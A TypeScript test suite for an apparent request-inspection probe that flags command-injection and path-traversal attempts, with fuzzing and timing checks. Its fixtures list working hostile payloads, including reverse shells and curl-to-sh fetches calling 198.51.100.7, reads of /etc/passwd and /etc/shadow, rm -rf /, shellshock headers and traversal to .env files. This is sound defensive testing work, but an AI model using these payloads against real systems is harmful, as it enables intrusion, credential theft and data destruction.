import assert from 'node:assert/strict';
import { test } from 'node:test';

import fc from 'fast-check';

import type { Request, RequestInput } from '../../model/request.ts';
import { fastestMs, makeInput, makeRequest, percentEncode, requestWith } from '../testing.ts';
import { createProbe } from './index.ts';

function classes(request: Request): string[] {
  return (createProbe().onRequest?.(request) ?? []).map((detection) => {
    assert.equal(detection.verdict, 'PROBED');
    assert.equal(detection.request, request);
    assert.equal(detection.effect, null);
    return detection.class;
  });
}

const COMMANDS = [
  '127.0.0.1;id',
  'a;id',
  'a; id',
  'a;id;',
  'x|id',
  'x | id',
  'x||whoami',
  '1&&whoami',
  '1 && cat /etc/passwd',
  '$(id)',
  'a$(whoami)b',
  '`id`',
  'a`uname -a`',
  'a\nid',
  'a\r\nwhoami',
  "a';id;'",
  'a";cat /etc/shadow;"',
  ';cat${IFS}/etc/passwd',
  ';cat$IFS$9/etc/passwd',
  '; sleep 10',
  '|sleep 5',
  '& ping -c 10 127.0.0.1 &',
  ';curl http://198.51.100.7/x|sh',
  ';wget https://198.51.100.7/x -O /tmp/x',
  ';nc 198.51.100.7 4444 -e /bin/sh',
  ';bash -i >& /dev/tcp/198.51.100.7/4444 0>&1',
  ';/bin/ls',
  '|/usr/bin/id',
  ';python3 -c "import os"',
  ';echo vulnerable',
  ';perl -e "print 1"',
  'x;uname -a',
  '; ls -la',
  ';nslookup x.attacker.example',
  '() { :; }; /bin/id',
  '$(sleep 5)',
  ';rm -rf /',
  '| base64 /etc/passwd',
];

for (const value of COMMANDS) {
  test(`command injection attempt: ${JSON.stringify(value)}`, () => {
    assert.deepEqual(classes(requestWith(value)), ['command-injection']);
    const body = JSON.stringify({ q: value });
    assert.deepEqual(classes(makeRequest({ body, inputs: [makeInput(value, 'json')] })), [
      'command-injection',
    ]);
    assert.deepEqual(classes(makeRequest({ target: `/x?q=${percentEncode(percentEncode(value))}` })), [
      'command-injection',
    ]);
  });
}

const PATHS = [
  '../../etc/passwd',
  '../../../../../../etc/shadow',
  '../.env',
  '../wp-config.php',
  'images/../../../x.txt',
  '..\\..\\windows\\win.ini',
  '....//....//etc/passwd',
  '..;/..;/manager/html',
  '../../etc/passwd\0.png',
  '/etc/passwd',
  '/proc/self/environ',
  'file:///etc/passwd',
  'php://filter/convert.base64-encode/resource=/etc/passwd',
  '/../../../etc/hosts',
  '../../../',
];

for (const value of PATHS) {
  test(`path traversal attempt: ${JSON.stringify(value)}`, () => {
    assert.deepEqual(classes(requestWith(value)), ['path-traversal']);
    assert.deepEqual(classes(makeRequest({ target: `/x?q=${percentEncode(percentEncode(value))}` })), [
      'path-traversal',
    ]);
  });
}

test('the path of the target itself', () => {
  for (const target of [
    '/cgi-bin/.%2e/.%2e/.%2e/etc/passwd',
    '/../../../etc/passwd',
    '/static/..%2f..%2f..%2fetc/passwd',
    '/%252e%252e/%252e%252e/x',
    '/static../.env',
    '/..;/..;/manager',
  ]) {
    const found = classes(makeRequest({ target }));
    assert.deepEqual(found, target === '/static../.env' ? [] : ['path-traversal'], target);
  }
});

test('headers and cookies', () => {
  const shellshock = '() { :; }; /bin/id';
  const agent = makeRequest({
    headers: [['user-agent', shellshock]],
    inputs: [makeInput(shellshock, 'header', 'user-agent')],
  });
  assert.deepEqual(classes(agent), ['command-injection']);
  const cookie = makeRequest({
    headers: [['cookie', 'lang=../../../etc/passwd']],
    inputs: [makeInput('../../../etc/passwd', 'cookie', 'lang')],
  });
  assert.deepEqual(classes(cookie), ['path-traversal']);
});

/** Values of ordinary traffic. */
const ORDINARY = [
  'cats & dogs; id cards',
  'cats & dogs',
  'salt;pepper;ls',
  'name;id;email',
  'title|id|date',
  'R&D',
  'AT&T',
  'Tom & Jerry; the movie',
  'eat; sleep; code',
  'I like bash; it is a shell',
  'sleep & rest',
  'first; then cat, then dog',
  'Please use `ls -la` to list the files',
  'Use `cat /etc/passwd` to see the users.',
  '# Title\n\n- use `id`\n- then `whoami`\n',
  'if (a) { b(); } // cats; id cards',
  'for (;;) { x |= y; }',
  'a || b',
  'a && b',
  'x = a | b;',
  '$(document).ready(function () { go(); });',
  '$(".menu").hide();',
  'costs $5; ping me later',
  'ping me; host a party',
  'text/html;charset=utf-8',
  'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36',
  'Mozilla/5.0 (compatible; Wget 1.2; curl 8)',
  'session=abc; path=/; id=5',
  'a=1&id=5&cat=7',
  'https://example.com/a?b=1&id=2;c=3',
  'https://example.com/?cat=/x&ls=/y',
  '{"a":"b; c","d":["e|f"]}',
  '<p>cats &amp; dogs; id cards</p>',
  'SELECT a; SELECT b',
  'wait...what',
  'v1.0..v1.1',
  '1..10',
  '../home',
  './a/b',
  'see ../../docs/readme.md for details',
  "import x from '../../lib/x.js';",
  'the file /etc/passwd lists users',
  '/home/app/photos/cat.jpg',
  '/var/www/html/index.html',
  'smile ;) ls',
  'Smith; John & Sons',
  'line one\nline two\nline three',
  'Dear all,\nhost a party\nBye',
  'a\nb\nc\nd\nls -l\n',
  'name: build\nrun: |\n  npm ci && curl https://example.com\n  ls -la\n',
  'c:\\users\\me\\file.txt',
  '100% | 50%',
  "rock'n'roll; more cats",
  'Fish & Chips; head office',
  'echo; echo canyon park',
  'p;q',
  'weights=[1;2;3]',
  'data:image/png;base64,iVBORw0KGgo',
  'text;more text here',
  'Hallo; find the rest in the tail',
  'a | find me',
  'tar & feather',
];

for (const value of ORDINARY) {
  test(`ordinary value: ${JSON.stringify(value)}`, () => {
    assert.deepEqual(classes(requestWith(value)), []);
    const body = JSON.stringify({ q: value });
    const inputs: RequestInput[] = [makeInput(value, 'json'), makeInput(body, 'body', '')];
    assert.deepEqual(classes(makeRequest({ body, inputs })), []);
  });
}

test('ordinary requests are not decoded', () => {
  const plain = makeRequest({
    target: '/api/users/7?page=2&sort=name&q=two+words&redirect=%2Fhome',
    headers: [
      ['host', 'example.com'],
      ['user-agent', 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36'],
      ['accept', 'text/html,application/xhtml+xml;q=0.9,*/*;q=0.8'],
      ['cookie', 'session=abc; theme=dark'],
    ],
    body: '{"name":"Ada","age":36}',
  });
  const message = Object.defineProperty({ ...plain.message }, 'inputs', {
    get: () => assert.fail('decoded'),
  });
  assert.deepEqual(classes({ ...plain, message }), []);
});

test('one detection of a class, and both classes', () => {
  const request = makeRequest({
    target: `/x?a=${percentEncode('a;id')}&b=${percentEncode('b;id')}&c=../../x`,
  });
  const detections = createProbe().onRequest?.(request) ?? [];
  assert.deepEqual(detections.map(({ class: name }) => name).toSorted(), [
    'command-injection',
    'path-traversal',
  ]);
  const command = detections.find(({ class: name }) => name === 'command-injection');
  assert.deepEqual(command?.evidence[0], {
    source: 'query parameter a',
    value: 'a;id',
    sink: null,
    sinkValue: null,
    offset: -1,
    note: 'has the command `id` after `;`',
  });
});

const value = fc.oneof(
  fc.uint8Array({ maxLength: 200 }).map((bytes) => Buffer.from(bytes).toString('latin1')),
  fc
    .array(
      fc.constantFrom(
        '..',
        '/',
        ';',
        '|',
        '`',
        '$(',
        ' ',
        'id',
        'cat',
        '\n',
        '\\',
        '%2e',
        '(',
        '{',
        'etc',
        '${IFS}',
      ),
      { maxLength: 40 },
    )
    .map((pieces) => pieces.join('')),
);

test('any bytes: never throws', () => {
  fc.assert(
    fc.property(fc.array(value, { maxLength: 4 }), value, (values, target) => {
      classes(
        makeRequest({
          target: `/${target}`,
          body: values.join('&'),
          inputs: values.map((one) => makeInput(one)),
        }),
      );
    }),
    { numRuns: 3000 },
  );
});

test('linear time on long hostile values', () => {
  for (const piece of [
    '../',
    ';id ',
    '; ',
    ';    ',
    '`id',
    '$(',
    '....//',
    '..;/',
    '()',
    '() {',
    '|cat ${IFS}',
    '\n',
    '/etc/',
    ';cat ',
    'a;',
  ]) {
    for (const length of [1000, 8192]) {
      const text = piece.repeat(Math.ceil(length / piece.length)).slice(0, length);
      const request = makeRequest({ target: `/${text}`, body: text, inputs: [makeInput(text)] });
      const took = fastestMs(() => void classes(request));
      assert.ok(took < 50, `${piece} took ${took.toFixed(1)} ms`);
    }
  }
});
